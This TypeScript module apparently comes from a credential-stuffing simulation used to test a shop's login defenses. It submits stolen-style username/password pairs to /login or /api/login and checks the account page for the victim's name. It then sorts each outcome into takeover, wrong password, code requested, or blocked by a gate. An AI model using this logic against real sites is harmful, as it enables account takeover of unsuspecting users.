import type { PlannedAttempt } from "./plan-stuffing.ts";
import { ask, type WebAnswer, type WebClient } from "../people/web-client.ts";

/**
 * What the attacker saw. `taken`: the account page greeted him by the victim's name. `code_asked`: the password was
 * right, but a code went to the victim. `stopped`: the answer was the gate's, not the shop's.
 */
export type AttemptEnd = "taken" | "wrong" | "code_asked" | "stopped";

export async function attempt({ pair, source, client }: PlannedAttempt, site: URL): Promise<AttemptEnd> {
  const web: WebClient = { site, loopback: source.loopback, jar: new Map() };
  const path = client.api ? "/api/login" : "/login";
  const body = client.api ? JSON.stringify({ user: pair }) : new URLSearchParams({ ...pair }).toString();
  const headers = client.headers(site);
  const answer = await ask(web, { method: "POST", path, headers, body });
  if (isWelcome(answer)) {
    const page = await ask(web, {
      method: "GET",
      path: "/account",
      headers: headers.filter(([name]) => name !== "content-type"),
    });
    return page.status === 200 && page.body.includes(pair.username) ? "taken" : "stopped";
  }
  return endOf(answer);
}

function isWelcome({ status, location, body }: WebAnswer): boolean {
  return (status === 303 && location === "/account") || (status === 200 && body.includes('"status":"ok"'));
}

function endOf({ status, location, body, contentType }: WebAnswer): AttemptEnd {
  if (status === 303 && location === "/login/code") return "code_asked";
  if (status === 200 && body.includes('"code_required"')) return "code_asked";
  // The shop itself answers a wrong password with 401; problem+json and every other status are the gate's.
  return status === 401 && !contentType.includes("problem+json") ? "wrong" : "stopped";
}
